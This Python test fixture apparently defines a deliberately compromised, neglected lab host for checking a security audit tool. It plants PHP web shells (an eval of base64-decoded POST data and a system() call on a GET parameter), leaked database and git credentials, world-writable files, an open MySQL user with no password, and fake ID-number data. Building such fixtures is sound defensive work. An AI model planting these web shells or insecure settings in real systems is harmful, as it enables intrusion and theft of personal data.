"""A host past its support that nobody has looked after: a web site with its database, broken into."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tests.lab.hosts.fleet import truths
from tests.lab.hosts.fleet.neglect import ACCOUNTS, BROKEN_INTO, FILES, SSH_OPEN
from tests.lab.hosts.fleet.parts import BASE, UNREAD_DISK, days_ago, load, run
from tests.lab.hosts.model import Boot, Host, Put, Step
from tests.lab.hosts.releases import DEBIAN_11

_SITE = "/var/www/html"

_WEB: tuple[Step, ...] = (
    Put(
        "/etc/nginx/sites-available/default",
        "server {\n"
        "  listen 80;\n"
        "  listen 443 ssl;\n"
        "  ssl_certificate /etc/ssl/situs.pem;\n"
        "  ssl_certificate_key /etc/ssl/private/situs.key;\n"
        "  server_name situs.contoh.go.id;\n"
        "  access_log off;\n"
        f"  root {_SITE};\n"
        "  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; include fastcgi_params; }\n"
        "}\n"
        f"server {{ listen 8081; server_name uji.situs.contoh.go.id; root {_SITE}; }}\n"
        "server {\n"
        "  listen 80;\n"
        "  server_name dinpora.contoh.go.id;\n"
        "  root /var/www/dinpora;\n"
        "  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; include fastcgi_params; }\n"
        "}\n",
    ),
    Put(
        f"{_SITE}/wp-config.php",
        "<?php\ndefine('DB_PASSWORD', 'rahasia-sekali');\ndefine('WP_DEBUG', true);\n",
    ),
    Put(f"{_SITE}/wp-includes/version.php", "<?php\n$wp_version = '5.2';\n", age_days=400),
    Put(f"{_SITE}/wp-includes/load.php", "<?php eval(base64_decode($_POST['x'])); ?>\n"),
    Put(f"{_SITE}/wp-admin/index.php", "<?php\n", age_days=400),
    Put(f"{_SITE}/wp-settings.php", "<?php\n", age_days=400),
    Put("/var/www/dinpora/index.php", "<?php\n"),
    Put(f"{_SITE}/.env", "APP_ENV=production\nAPP_DEBUG=true\nDB_PASSWORD=rahasia\n"),
    Put(f"{_SITE}/.git/config", '[remote "origin"]\n\turl = https://budi:rahasia@git.contoh.invalid/situs\n'),
    Put(f"{_SITE}/.git/HEAD", "ref: refs/heads/main\n"),
    Put(f"{_SITE}/situs.sql", "CREATE TABLE pegawai;\n"),
    Put(f"{_SITE}/wp-content/uploads/gambar.php", "<?php system($_GET['c']); ?>\n", 0o666),
    Put(f"{_SITE}/koneksi.php", "<?php\n$db_password = 'rahasia-sekali';\nmysqli_connect('x','y','z');\n"),
    Put(
        f"{_SITE}/pegawai.csv",
        "nik,nama\n" + "".join(f"33790457{n:02d}85{n:04d},Contoh {n}\n" for n in range(10, 20)),
    ),
    Put(
        "/etc/php/7.4/fpm/conf.d/90-lama.ini",
        "expose_php = On\ndisplay_errors = On\nallow_url_include = On\n",
    ),
    run(f"chown -R www-data:www-data {_SITE}", f"chmod -R o+w {_SITE}"),
)

_DATABASE: tuple[Step, ...] = (
    Put("/etc/mysql/mariadb.conf.d/60-buka.cnf", "[mysqld]\nbind-address = 0.0.0.0\nserver_id = 2\n"),
    Boot(
        'mysql -e "CREATE DATABASE test; CREATE DATABASE situs; CREATE TABLE test.warga (nik VARCHAR(16));'
        " INSERT INTO test.warga VALUES ('3379045707850010'), ('3379045707850011'), ('3379045707850012');"
        " CREATE USER situs@'%' IDENTIFIED BY ''; GRANT ALL ON *.* TO situs@'%';"
        " CHANGE MASTER TO MASTER_HOST='203.0.113.1', MASTER_USER='x', MASTER_PASSWORD='y'; START SLAVE;\"\n"
        "touch -d '20 days ago' /var/log/nginx/*.log\n"
    ),
)

_RECORD: Mapping[str, Any] = {
    "accounts": [],
    "keys": [],
    "backups": [],
    "jobs": [],
    "services": ["sshd"],
    "units": [],
    "runbook": {"reference": "SOP-3", "reviewed": days_ago(900)},
    "exercise": {"day": days_ago(900), "good": False},
    "asset": {"hostname": "server-lama", "tag": "3.05.02.01.002"},
    "admission": {"accepted": None, "published": days_ago(900)},
    "releases": [],
    "licences": [],
    "suid_files": [],
    "own_software": [],
    "baseline": ["sshd 00"],
    "test_databases": [],
}

FORGOTTEN = Host(
    id="host-forgotten",
    name="Situs lama",
    opd="dinsos",
    zone="hosts",
    category="tinggi",
    address="10.77.0.12",
    release=DEBIAN_11,
    packages=(
        *BASE,
        "curl",
        "make",
        "mariadb-server",
        "nftables",
        "nginx-light",
        "nmap",
        "php-fpm",
        "vsftpd",
    ),
    steps=(*SSH_OPEN, *ACCOUNTS, *FILES, *BROKEN_INTO, *_WEB, *_DATABASE, load("9.00")),
    fails=truths.FORGOTTEN,
    unknown=UNREAD_DISK,
    record=_RECORD,
    leavers=("siti",),
    consent=("web-personal-data-absent", "databases-test-data-masked"),
)
